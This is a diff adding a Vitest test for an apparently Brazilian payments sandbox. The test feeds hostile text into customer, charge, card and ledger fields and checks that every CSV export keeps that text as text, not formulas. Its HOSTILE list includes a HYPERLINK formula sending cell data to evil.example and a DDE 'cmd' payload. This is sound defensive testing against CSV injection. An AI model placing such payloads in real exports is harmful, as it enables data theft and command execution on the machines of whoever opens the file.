@@ -1,0 +1,179 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { addDays, BANK_ACCOUNT_TYPES, businessToday, REPORT_TYPE_KEYS } from '@balcao/domain';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createTestSandbox, type TestSandbox } from '../../test-support';
+import { buildChargeReport } from '../charges/report';
+import { buildReportFile } from '../reports/jobs';
+import { parseCsv } from './csv-parse';
+
+/**
+ * Every CSV the product writes, fed hostile text in every field a person or a buyer can type: no cell may
+ * start like a formula (OWASP 'CSV injection'), whichever builder wrote it. A new builder joins the table
+ * or the source scan at the end fails.
+ */
+
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1;"Reembolso")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|',
+  '-2+3',
+  '\t=1+1',
+  '\r=1+1',
+];
+/** Amounts and counts: a leading minus there is a negative number, never a formula. */
+const PLAIN_NUMBER = /^-?[\d.]+(,\d+)?$/;
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+let s: TestSandbox;
+let sellerId: number;
+let today: string;
+const ADMIN = 'admin@demo.balcao.dev';
+
+/** Each row gets one of the hostile texts, by its id, so every builder meets all of them. */
+const hostileBy = (id: string) =>
+  `(ARRAY[${HOSTILE.map((_, i) => `$${i + 1}`).join(', ')}])[1 + abs(hashtext(${id}::text)) % ${HOSTILE.length}]`;
+
+beforeAll(async () => {
+  s = await createTestSandbox();
+  today = businessToday(s.clock.now());
+  const [user] = await s.db.query<{ seller_id: number }>('SELECT seller_id FROM users WHERE email = $1', [
+    ADMIN,
+  ]);
+  sellerId = user!.seller_id;
+  const h = hostileBy;
+  await s.db.query(
+    `UPDATE charges SET customer_name = ${h('id')}, customer_email = ${h("id || 'e'")}, title = ${h("id || 't'")}`,
+    HOSTILE,
+  );
+  await s.db.query(`UPDATE payment_links SET title = left(${h('id')} || ' ' || id, 60)`, HOSTILE);
+  await s.db.query(`UPDATE card_transactions SET description = ${h('id')}`, HOSTILE);
+  // The ledger refuses edits by design; the test lifts that for its own copy of the seed, once.
+  await s.db.query('ALTER TABLE ledger_entries DISABLE TRIGGER ledger_entries_append_only');
+  await s.db.query(
+    `UPDATE ledger_entries SET description = ${h('id')}, operation = left(${h("id || 'o'")}, 40)`,
+    HOSTILE,
+  );
+  await s.db.query('ALTER TABLE ledger_entries ENABLE TRIGGER ledger_entries_append_only');
+});
+afterAll(() => s?.close());
+
+const latestAttachment = async (to: string) => {
+  const { body } = await s.call({
+    method: 'GET',
+    url: `/_sandbox/outbox?format=json&to=${encodeURIComponent(to)}`,
+  });
+  const url = body.emails[0].attachments[0].url as string;
+  return (await s.app.inject({ method: 'GET', url: new URL(url).pathname })).rawPayload.toString('utf8');
+};
+
+interface CsvBuilder {
+  name: string;
+  /** The files that write it, relative to the repository: the source scan checks none is left out. */
+  sources: string[];
+  build(): Promise<string>;
+}
+
+const REPORTS = [
+  'apps/sandbox/src/areas/reports/jobs.ts',
+  'apps/sandbox/src/areas/reports/sales-csv.ts',
+  'apps/sandbox/src/areas/reports/ledger-csv.ts',
+];
+
+const BUILDERS: CsvBuilder[] = [
+  {
+    name: 'relatório de cobranças (Baixar relatório .csv)',
+    sources: ['apps/sandbox/src/areas/charges/report.ts'],
+    build: async () =>
+      (
+        await buildChargeReport(
+          s.db,
+          sellerId,
+          { from: addDays(today, -400), to: addDays(today, 400) },
+          today,
+        )
+      ).csv.toString('utf8'),
+  },
+  ...REPORT_TYPE_KEYS.flatMap((type) =>
+    (type === 'EXTRATO_CONTAS' ? BANK_ACCOUNT_TYPES : [null]).map((account) => ({
+      name: `relatório ${type}${account ? ` ${account}` : ''}`,
+      sources: REPORTS,
+      build: async () =>
+        (
+          await buildReportFile(
+            s.db,
+            { report_type: type, account_type: account },
+            {
+              sellerId,
+              from: addDays(today, -400),
+              to: addDays(today, 60),
+            },
+          )
+        ).csv.toString('utf8'),
+    })),
+  ),
+  {
+    name: 'extrato do cartão (Extrair extrato)',
+    sources: ['apps/sandbox/src/areas/cards/transactions.ts'],
+    build: async () => {
+      const [card] = await s.db.query<{ id: string }>(
+        `SELECT c.id FROM cards c WHERE c.seller_id = $1 AND c.status <> 'PENDING'
+           AND EXISTS (SELECT 1 FROM card_transactions t WHERE t.card_id = c.id) ORDER BY c.id LIMIT 1`,
+        [sellerId],
+      );
+      const sent = await s.call({
+        method: 'POST',
+        url: '/banking/v1/banking/card/transactions',
+        headers: { ...(await s.bearer(ADMIN)), 'idempotency-key': crypto.randomUUID() },
+        payload: { cardId: card!.id, startDate: addDays(today, -365), endDate: today },
+      });
+      expect(sent.status).toBe(202);
+      return latestAttachment(ADMIN);
+    },
+  },
+];
+
+/**
+ * Not CSV builders though they match the scan: canonical JSON, and the SDK's example script, which is the
+ * integrator's own code (it cannot import the private @balcao/domain; see docs/decisions).
+ */
+const NOT_PRODUCT_CSV = [
+  'apps/sandbox/src/http/idempotency.ts',
+  'packages/sdk/examples/reconcile-month.ts',
+  'packages/domain/src/csv.ts',
+];
+
+describe('every CSV the product writes', () => {
+  it.each(BUILDERS.map((b) => [b.name, b] as const))('%s keeps hostile text as text', async (_, builder) => {
+    const rows = parseCsv(await builder.build());
+    const cells = rows.slice(1).flat();
+    const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
+    expect(formulas).toEqual([]);
+    // Not true for lack of data: the builder did meet the hostile texts, and wrote them as text.
+    if (!/^relatório (BALANCO|REPASSES)/.test(builder.name))
+      expect(
+        cells.filter((cell) => HOSTILE.some((h) => cell === `'${h}` || cell.startsWith(`'${h}`))).length,
+      ).toBeGreaterThan(0);
+  });
+
+  it('has every CSV producer of the repository in its table', () => {
+    const root = join(import.meta.dirname, '../../../../..');
+    const producer = /text\/csv|CSV_CONTENT_TYPE|csvLine\(|csvDocument\(|\.join\(\s*['"`][;,]['"`]\s*\)/;
+    const found: string[] = [];
+    const walk = (dir: string) => {
+      for (const entry of readdirSync(dir, { withFileTypes: true })) {
+        if (['node_modules', 'dist', 'generated'].includes(entry.name)) continue;
+        const path = join(dir, entry.name);
+        if (entry.isDirectory()) walk(path);
+        else if (
+          /\.(ts|tsx|mjs)$/.test(entry.name) &&
+          !/\.test\.tsx?$|test-support|csv-parse/.test(entry.name)
+        )
+          if (producer.test(readFileSync(path, 'utf8'))) found.push(relative(root, path));
+      }
+    };
+    for (const top of ['apps', 'packages']) walk(join(root, top));
+    const known = new Set([...BUILDERS.flatMap((b) => b.sources), ...NOT_PRODUCT_CSV]);
+    expect(found.filter((path) => !known.has(path))).toEqual([]);
+  });
+});
